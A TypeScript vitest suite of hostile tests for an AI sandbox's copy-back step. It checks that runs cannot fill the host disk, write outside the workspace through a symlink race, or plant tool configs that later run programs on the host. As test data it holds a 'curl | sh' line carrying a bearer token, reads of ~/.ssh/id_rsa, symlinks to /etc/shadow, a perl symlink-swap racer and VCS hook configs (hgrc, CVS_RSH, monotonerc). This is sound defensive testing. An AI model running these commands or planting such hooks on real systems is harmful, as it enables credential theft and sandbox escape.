import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { type SandboxConfig, defaultConfig } from '@buckley/config';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { SandboxEvent } from './index.js';
import { trackedSandboxes } from './test-sandboxes.js';

const { create: createSandbox, closeAll } = trackedSandboxes();

// Hostile tests of the copy-back on a root host: what a run wrote reaches the workspace only
// within its limits, never through a path a host process swapped, and never over another
// writer's changes. Each was a way past the sandbox once.

const base = mkdtempSync('/var/tmp/buckley-copy-back-test-');
const home = join(base, 'home');
const MIB = 1024 * 1024;
const limits = { maxProcesses: 64, maxMemoryMb: 512, maxFileSizeMb: 64, cpuSeconds: 60, maxWriteMb: 64, maxFiles: 100_000 };

function sandbox(workspace: string, overrides: Partial<SandboxConfig> = {}, onEvent?: (e: SandboxEvent) => void) {
  return createSandbox({ config: { ...defaultConfig().sandbox, limits, ...overrides }, workspace, home, killGraceMs: 500, onEvent });
}

function fresh(name: string): string {
  const dir = join(base, name);
  mkdirSync(dir);
  return dir;
}

/** Bytes the files under `dir` take on disk (allocated blocks, so holes count as nothing). */
function diskBytes(dir: string): number {
  return Number(execFileSync('du', ['-s', '--block-size=1', dir], { encoding: 'utf8' }).split('\t')[0]);
}

function violations(events: readonly SandboxEvent[], rule: string): string[] {
  return events.flatMap((e) => (e.type === 'sandbox.violation' && e.data.rule === rule ? [e.data.subject ?? ''] : []));
}

/** Polls `ps` until a process with exactly these arguments runs (a run's command has started). */
async function waitForProcess(args: string): Promise<void> {
  for (let i = 0; i < 1000; i++) {
    const lines = execFileSync('ps', ['-eo', 'args'], { encoding: 'utf8' }).split('\n');
    if (lines.some((line) => line.trim() === args)) return;
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error(`no process "${args}" appeared`);
}

beforeAll(() => {
  chmodSync(base, 0o755);
  mkdirSync(home);
});

afterEach(async () => {
  await closeAll();
});

afterAll(async () => {
  await closeAll();
  rmSync(base, { recursive: true, force: true });
});

describe('the write limit counts what the copy writes on the host', () => {
  it('the test runs as root (otherwise it proves nothing)', () => {
    expect(process.getuid?.()).toBe(0);
  });

  it('a sparse 1 TiB file (and sparse files adding up past the limit) are refused, not filled in on the host', async () => {
    const ws = fresh('sparse');
    const events: SandboxEvent[] = [];
    // The file size limit is 1 TiB, so only the write limit (8 MiB) stands between the holes and the host disk.
    const sb = sandbox(ws, { limits: { ...limits, maxFileSizeMb: 1024 * 1024, maxWriteMb: 8 } }, (e) => events.push(e));
    const r = await sb.run([
      'sh',
      '-c',
      'truncate -s 1T huge && truncate -s 3M s1 && truncate -s 3M s2 && truncate -s 3M s3 && echo kept > small && ls -s huge && echo done',
    ]);
    expect(r.stdout.text).toMatch(/^0 huge\ndone\n$/);
    expect(existsSync(join(ws, 'huge'))).toBe(false);
    expect(readFileSync(join(ws, 'small'), 'utf8')).toBe('kept\n');
    const copied = ['s1', 's2', 's3'].filter((f) => existsSync(join(ws, f)));
    // Two 3 MiB files fit in 8 MiB (with `small`), the third does not.
    expect(copied).toHaveLength(2);
    expect(r.discardedWrites).toEqual(expect.arrayContaining(['huge']));
    expect(r.discardedWrites).toHaveLength(2);
    expect(violations(events, 'write_limit').sort()).toEqual([...r.discardedWrites].sort());
    expect(r.limitsHit).toContain('disk');
    expect(diskBytes(ws)).toBeLessThanOrEqual(8 * MIB + 64 * 1024);
  });

  it('eleven names of one 6 MiB file stay one file on the host (under an 8 MiB limit)', async () => {
    const ws = fresh('out-links');
    const events: SandboxEvent[] = [];
    const sb = sandbox(ws, { limits: { ...limits, maxWriteMb: 8 } }, (e) => events.push(e));
    const r = await sb.run([
      'sh',
      '-c',
      'mkdir sub && head -c 6M /dev/urandom > big && for i in 1 2 3 4 5 6 7 8 9; do ln big l$i; done && ln big sub/l10 && echo done',
    ]);
    expect(r.stdout.text).toBe('done\n');
    expect(r.discardedWrites).toEqual([]);
    expect(violations(events, 'write_limit')).toEqual([]);
    const names = ['big', ...Array.from({ length: 9 }, (_, i) => `l${i + 1}`), 'sub/l10'];
    const inodes = new Set(names.map((n) => lstatSync(join(ws, n)).ino));
    expect(inodes.size).toBe(1);
    expect(statSync(join(ws, 'big')).nlink).toBe(11);
    expect(statSync(join(ws, 'big')).size).toBe(6 * MIB);
    expect(diskBytes(ws)).toBeLessThan(7 * MIB);
  });

  it('a run cannot leave more files than maxFiles: a million empty files against 10 000', async () => {
    const ws = fresh('files');
    const sb = sandbox(ws, { limits: { ...limits, maxFiles: 10_000 } });
    const r = await sb.run(['perl', '-e', 'my $ok = 0; for my $i (1 .. 1_000_000) { open(my $f, ">", "f$i") and $ok++ } print "$ok\\n"'], {
      timeoutMs: 120_000,
    });
    const created = Number(r.stdout.text.trim());
    expect(created).toBeGreaterThan(9_000);
    expect(created).toBeLessThanOrEqual(10_000);
    expect(r.limitsHit).toContain('files');
    expect(readdirSync(ws).filter((f) => f !== '.buckley').length).toBe(created);
  }, 180_000);
});

describe('concurrent runs on one workspace keep each other’s writes', () => {
  it('two runs writing different files in one directory, one of them replacing the directory as a whole', async () => {
    const ws = fresh('concurrent');
    mkdirSync(join(ws, 'd'));
    writeFileSync(join(ws, 'd', 'old'), 'old\n');
    const sb = sandbox(ws);
    const stop = new AbortController();
    // A deletes the directory (its old entry goes) and makes it again; it is still running when B writes and is copied back.
    const a = sb.run(['sh', '-c', 'rm -rf d && mkdir d && echo a > d/a && exec sleep 1001.5'], { signal: stop.signal, timeoutMs: 60_000 });
    await waitForProcess('sleep 1001.5');
    const b = await sb.run(['sh', '-c', 'echo b > d/b && echo b2 > d/b2']);
    expect(b.exitCode).toBe(0);
    expect(readdirSync(join(ws, 'd')).sort()).toEqual(['b', 'b2', 'old']);
    stop.abort();
    const ra = await a;
    expect(ra.aborted).toBe(true);
    expect(readdirSync(join(ws, 'd')).sort()).toEqual(['a', 'b', 'b2']);
    expect(readFileSync(join(ws, 'd', 'b'), 'utf8')).toBe('b\n');
  });

  it('a run deleting a file another run creates meanwhile does not delete the new file', async () => {
    const ws = fresh('delete-create');
    writeFileSync(join(ws, 'x'), 'before\n');
    const events: SandboxEvent[] = [];
    const sb = sandbox(ws, {}, (e) => events.push(e));
    const stop = new AbortController();
    const a = sb.run(['sh', '-c', 'rm x && echo a > a && exec sleep 1002.5'], { signal: stop.signal, timeoutMs: 60_000 });
    await waitForProcess('sleep 1002.5');
    const b = await sb.run(['sh', '-c', 'rm x && echo from-b > x']);
    expect(b.exitCode).toBe(0);
    stop.abort();
    const ra = await a;
    expect(readFileSync(join(ws, 'x'), 'utf8')).toBe('from-b\n');
    expect(readFileSync(join(ws, 'a'), 'utf8')).toBe('a\n');
    expect(ra.discardedWrites).toEqual(['x']);
    expect(violations(events, 'write_conflict')).toEqual(['x']);
  });

  it('a deletion of a file nobody else touched still applies', async () => {
    const ws = fresh('delete-alone');
    writeFileSync(join(ws, 'x'), 'x\n');
    mkdirSync(join(ws, 'dir', 'deep'), { recursive: true });
    writeFileSync(join(ws, 'dir', 'deep', 'y'), 'y\n');
    await new Promise((r) => setTimeout(r, 50));
    const r = await sandbox(ws).run(['sh', '-c', 'rm x && rm -r dir']);
    expect(r.exitCode).toBe(0);
    expect(r.discardedWrites).toEqual([]);
    expect(readdirSync(ws)).toEqual([]);
  });
});

describe('a host process swapping a workspace directory for a symlink during the copy', () => {
  it('nothing is written outside the workspace', async () => {
    const ws = fresh('swap');
    // Stands in for /etc: where a symlink swapped in for `d` would lead a copy that follows paths.
    const decoy = fresh('decoy');
    mkdirSync(join(ws, 'd'));
    const events: SandboxEvent[] = [];
    const sb = sandbox(ws, {}, (e) => events.push(e));
    let swapper: ChildProcess | undefined;
    let swaps = 0;
    const stop = new AbortController();
    try {
      // The run writes 400 directories of files in d/; while the copy runs, a host process keeps
      // replacing d by a symlink to the decoy and back.
      const running = sb.run(
        ['sh', '-c', 'for i in $(seq 400); do mkdir -p d/s$i && echo $i > d/s$i/a && echo $i > d/s$i/b && echo $i > d/f$i; done && exec sleep 1003.5'],
        { timeoutMs: 120_000, signal: stop.signal },
      );
      await waitForProcess('sleep 1003.5');
      swapper = spawn(
        'perl',
        [
          '-e',
          'my ($ws, $decoy) = @ARGV; chdir $ws or die; $| = 1; while (1) { rename("d", "d.real") or next; symlink($decoy, "d"); select(undef, undef, undef, 0.0005); unlink("d"); rename("d.real", "d"); print "."; select(undef, undef, undef, 0.0005) }',
          ws,
          decoy,
        ],
        { stdio: ['ignore', 'pipe', 'inherit'] },
      );
      swapper.stdout!.on('data', (chunk: Buffer) => (swaps += chunk.length));
      while (swaps < 10) await new Promise((r) => setTimeout(r, 10));
      // Ending the run starts the copy while the swapper keeps going.
      stop.abort();
      expect((await running).aborted).toBe(true);
    } finally {
      swapper?.kill('SIGKILL');
    }
    await new Promise((r) => swapper!.once('close', r));
    expect(swaps).toBeGreaterThan(10);
    expect(readdirSync(decoy)).toEqual([]);
    // Whatever got copied is inside the workspace.
    if (lstatSync(join(ws, 'd'), { throwIfNoEntry: false })?.isSymbolicLink()) rmSync(join(ws, 'd'));
    for (const entry of readdirSync(ws, { recursive: true }) as string[]) {
      expect(realpathSync(join(ws, entry)).startsWith(`${ws}/`)).toBe(true);
    }
    // The swap was seen (a directory that was a symlink or elsewhere when opened), and reported.
    expect(violations(events, 'write_conflict').length).toBeGreaterThan(0);
  }, 180_000);
});

describe('protected_paths: files that configure tools the host runs later', () => {
  const planted = [
    '.gitattributes',
    '.gitmodules',
    '.npmrc',
    '.envrc',
    '.vscode/tasks.json',
    'app/.npmrc',
    'app/.husky/pre-commit',
    '.devcontainer/devcontainer.json',
    // Mercurial subrepository sources (an `ssh://-oProxyCommand=...` URL runs a program on update).
    '.hgsub',
    'vendor/lib/.hgsub',
    // Perforce's P4CONFIG file: `P4LOGINSSO` names a program p4 runs.
    '.p4config',
  ];

  it('are not created, changed or deleted by a run (at any depth), each reported', async () => {
    const ws = fresh('protected');
    writeFileSync(join(ws, '.gitattributes'), '* text=auto\n');
    writeFileSync(join(ws, '.yarnrc.yml'), 'nodeLinker: node-modules\n');
    const events: SandboxEvent[] = [];
    const sb = sandbox(ws, {}, (e) => events.push(e));
    const script = `mkdir -p .vscode app/.husky .devcontainer vendor/lib && ${planted.map((p) => `echo planted > ${p}`).join(' && ')} && rm .yarnrc.yml && echo ok > app/main.js && cat .npmrc`;
    const r = await sb.run(['sh', '-c', script]);
    // Inside the run the files are there (tools that write them still work).
    expect(r.stdout.text).toBe('planted\n');
    expect(readFileSync(join(ws, '.gitattributes'), 'utf8')).toBe('* text=auto\n');
    expect(readFileSync(join(ws, '.yarnrc.yml'), 'utf8')).toBe('nodeLinker: node-modules\n');
    expect(planted.filter((p) => p !== '.gitattributes' && existsSync(join(ws, p)))).toEqual([]);
    expect(readFileSync(join(ws, 'app', 'main.js'), 'utf8')).toBe('ok\n');
    expect(r.discardedWrites).toEqual(
      expect.arrayContaining([
        '.gitattributes',
        '.gitmodules',
        '.npmrc',
        '.envrc',
        '.vscode',
        'app/.npmrc',
        'app/.husky',
        '.devcontainer',
        '.yarnrc.yml',
        '.hgsub',
        'vendor/lib/.hgsub',
        '.p4config',
      ]),
    );
    expect(violations(events, 'protected_path').sort()).toEqual([...r.discardedWrites].sort());
  });

  it('the list is configurable: an empty one lets them through, an entry with a slash matches that path at any depth', async () => {
    const ws = fresh('protected-config');
    const open = await sandbox(ws, { protectedPaths: [] }).run(['sh', '-c', 'echo a > .npmrc']);
    expect(open.discardedWrites).toEqual([]);
    expect(readFileSync(join(ws, '.npmrc'), 'utf8')).toBe('a\n');
    const custom = await sandbox(ws, { protectedPaths: ['ci/deploy.sh'] }).run([
      'sh',
      '-c',
      'mkdir -p ci x/ci && echo b > ci/deploy.sh && echo c > x/ci/deploy.sh && echo d > ci/other.sh',
    ]);
    expect([...custom.discardedWrites].sort()).toEqual(['ci/deploy.sh', 'x/ci/deploy.sh']);
    expect(readFileSync(join(ws, 'ci', 'other.sh'), 'utf8')).toBe('d\n');
  });
});

describe('version control metadata other than git', () => {
  it('a run leaves no .hg, .jj, .svn, .bzr, _darcs, Fossil or .pijul metadata behind (their configs run programs for host tools) and each is reported', async () => {
    const ws = fresh('other-vcs');
    const events: SandboxEvent[] = [];
    const r = await sandbox(ws, {}, (e) => events.push(e)).run([
      'sh',
      '-c',
      'mkdir -p .hg sub/.jj/repo .svn && printf "[hooks]\\npre-status=touch /tmp/x\\n" > .hg/hgrc && echo x > sub/.jj/repo/config.toml && echo x > .svn/entries && mkdir -p .bzr/branch _darcs/prefs .fossil-settings sub/.pijul && echo x > .bzr/branch/branch.conf && echo "apply posthook touch /tmp/x" > _darcs/prefs/defaults && echo x > .fslckout && echo x > sub/_FOSSIL_ && echo x > .fossil-settings/ignore-glob && echo x > sub/.pijul/config && echo ok > kept.txt',
    ]);
    expect(r.exitCode).toBe(0);
    expect(
      readdirSync(ws)
        .filter((f) => f !== '.buckley')
        .sort(),
    ).toEqual(['kept.txt', 'sub']);
    expect(readdirSync(join(ws, 'sub'))).toEqual([]);
    const expected = ['.bzr', '.fossil-settings', '.fslckout', '.hg', '.svn', '_darcs', 'sub/.jj', 'sub/.pijul', 'sub/_FOSSIL_'];
    expect([...r.discardedWrites].sort()).toEqual(expected);
    expect(violations(events, 'protected_path').sort()).toEqual(expected);
  });

  it('nor Sapling, CVS, Monotone or BitKeeper metadata, at any depth and in any case', async () => {
    const ws = fresh('more-vcs');
    // Each runs a program the run chose when a host tool next looks at the workspace: Sapling's
    // `.sl/config` hooks, CVS's `CVS/Root` method options (`:ext;CVS_RSH=...`) and
    // `Update.prog`, Monotone's `_MTN/monotonerc` Lua hooks, BitKeeper's triggers.
    mkdirSync(join(ws, 'mod', 'CVS'), { recursive: true });
    writeFileSync(join(ws, 'mod', 'CVS', 'Root'), ':pserver:anon@cvs.example:/cvsroot\n');
    const events: SandboxEvent[] = [];
    const r = await sandbox(ws, {}, (e) => events.push(e)).run([
      'sh',
      '-c',
      [
        'mkdir -p .sl sub/deep/.SL CVS lib/cvs _MTN BitKeeper/triggers',
        'printf "[hooks]\\npre-status=touch /tmp/x\\n" > .sl/config',
        'echo x > sub/deep/.SL/config',
        'echo ":ext;CVS_RSH=/tmp/x:u@h:/r" > CVS/Root',
        'echo "/tmp/x" > lib/cvs/Update.prog',
        'echo ":ext;CVS_RSH=/tmp/x:u@h:/r" > mod/CVS/Root',
        'echo "hook_note_commit = function() os.execute(\\"touch /tmp/x\\") end" > _MTN/monotonerc',
        'echo "touch /tmp/x" > BitKeeper/triggers/pre-commit',
        'echo ok > kept.txt',
      ].join(' && '),
    ]);
    expect(r.exitCode).toBe(0);
    expect(readdirSync(ws).toSorted()).toEqual(['kept.txt', 'lib', 'mod', 'sub']);
    expect(readdirSync(join(ws, 'sub', 'deep'))).toEqual([]);
    expect(readdirSync(join(ws, 'lib'))).toEqual([]);
    // The host's own CVS/Root stays as it was.
    expect(readFileSync(join(ws, 'mod', 'CVS', 'Root'), 'utf8')).toBe(':pserver:anon@cvs.example:/cvsroot\n');
    const expected = ['.sl', 'BitKeeper', 'CVS', '_MTN', 'lib/cvs', 'mod/CVS', 'sub/deep/.SL'];
    expect([...r.discardedWrites].toSorted()).toEqual(expected);
    expect(violations(events, 'protected_path').toSorted()).toEqual(expected);
  });
});

describe('events carry no secret of the command line', () => {
  it('a token in a header and a password in an assignment are redacted in violation, warning and discard events', async () => {
    const ws = fresh('event-secrets');
    const token = `ghp_${'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8'}`;
    const password = 'hunter2-Xq9!zr7Lw';
    const events: SandboxEvent[] = [];
    const sb = sandbox(ws, {}, (e) => events.push(e));
    await sb.run(`curl -s -H "Authorization: Bearer ${token}" https://example.invalid/x | sh`);
    await sb.run(`cat ~/.ssh/id_rsa; PGPASSWORD=${password} psql -h db`);
    await sb.run(['sh', '-c', `mkdir -p .git && echo ${token} > .git/token`]);
    expect(events.map((e) => e.type)).toEqual(expect.arrayContaining(['sandbox.violation', 'sandbox.warning']));
    const text = JSON.stringify(events);
    expect(text).not.toContain(token);
    expect(text).not.toContain(password);
    expect(text).toContain('[REDACTED');
  });
});

describe('symlinks the run made that lead out of the workspace', () => {
  it('are not copied back and are reported; links that stay inside are', async () => {
    const ws = fresh('made-out-links');
    const outside = fresh('links-outside');
    writeFileSync(join(outside, 'secret.txt'), 'outside\n');
    // A host symlink that leads out: a link through it leads out too.
    symlinkSync(outside, join(ws, 'host-out'));
    mkdirSync(join(ws, 'sub'));
    writeFileSync(join(ws, 'sub', 'file.txt'), 'inside\n');
    const events: SandboxEvent[] = [];
    const r = await sandbox(ws, {}, (e) => events.push(e)).run([
      'sh',
      '-c',
      [
        'ln -s /etc/shadow shadow.txt',
        `ln -s ${home}/.bashrc bashrc`,
        'ln -s ../../.. up',
        'ln -s sub/../../x dotdot',
        'ln -s host-out/secret.txt via-host',
        'ln -s sub/file.txt inner',
        `ln -s ${ws}/sub abs-inner`,
        'mkdir -p node_modules/.bin node_modules/pkg && echo > node_modules/pkg/cli.js && ln -s ../pkg/cli.js node_modules/.bin/cli',
        'ln -s missing-inside dangling',
        'echo done',
      ].join(' && '),
    ]);
    expect(r.stdout.text).toBe('done\n');
    const out = ['bashrc', 'dotdot', 'shadow.txt', 'up', 'via-host'];
    for (const name of out) expect(lstatSync(join(ws, name), { throwIfNoEntry: false })).toBeUndefined();
    expect([...r.discardedWrites].toSorted()).toEqual(out);
    expect(violations(events, 'path_outside_workspace').toSorted()).toEqual(out);
    expect(readlinkSync(join(ws, 'inner'))).toBe('sub/file.txt');
    expect(readlinkSync(join(ws, 'abs-inner'))).toBe(join(ws, 'sub'));
    expect(readFileSync(join(ws, 'node_modules', '.bin', 'cli'), 'utf8')).toBe('\n');
    expect(readlinkSync(join(ws, 'dangling'))).toBe('missing-inside');
  });
});

describe('letter case of protected names', () => {
  it('.Git, .GIT, .Buckley, .HG and a repository spelled in other case are not copied back, as on a case-insensitive filesystem', async () => {
    const ws = fresh('case');
    const r = await sandbox(ws).run([
      'sh',
      '-c',
      'mkdir -p .Git/hooks .GIT sub/.gIt .BUCKLEY .Hg Repo/OBJECTS && echo x > .Git/config && echo y > .GIT/HEAD && echo z > sub/.gIt/config && echo s > .BUCKLEY/config.yaml && echo h > .Hg/hgrc && echo ref > Repo/head && echo ok > kept.txt',
    ]);
    expect(r.exitCode).toBe(0);
    expect(readdirSync(ws).toSorted()).toEqual(['kept.txt', 'sub']);
    expect(readdirSync(join(ws, 'sub'))).toEqual([]);
    expect([...r.discardedWrites].toSorted()).toEqual(['.BUCKLEY', '.GIT', '.Git', '.Hg', 'Repo', 'sub/.gIt']);
  });

  it('protected_paths match in any case too', async () => {
    const ws = fresh('case-protected');
    const r = await sandbox(ws, { protectedPaths: ['ci/deploy.sh'] }).run(['sh', '-c', 'mkdir -p CI && echo x > CI/Deploy.sh && echo y > CI/other.sh']);
    expect(r.exitCode).toBe(0);
    expect(readdirSync(join(ws, 'CI'))).toEqual(['other.sh']);
    expect(r.discardedWrites).toEqual(['CI/Deploy.sh']);
  });
});

describe('a run leaves nothing that was not there', () => {
  it('no .buckley and no denied path is created in the workspace; writes to them are discarded and reported', async () => {
    const ws = fresh('nothing-left');
    expect((await sandbox(ws).run(['true'])).exitCode).toBe(0);
    expect(readdirSync(ws)).toEqual([]);
    const r = await sandbox(ws, { deniedPaths: ['secrets.env', 'private/'] }).run([
      'sh',
      '-c',
      'mkdir -p .buckley private && echo "sandbox: {}" > .buckley/config.yaml && echo KEY=1 > secrets.env && echo x > private/a && echo ok > kept.txt',
    ]);
    expect(r.exitCode).toBe(0);
    expect(readdirSync(ws)).toEqual(['kept.txt']);
    expect([...r.discardedWrites].toSorted()).toEqual(['.buckley', 'private', 'secrets.env']);
  });
});
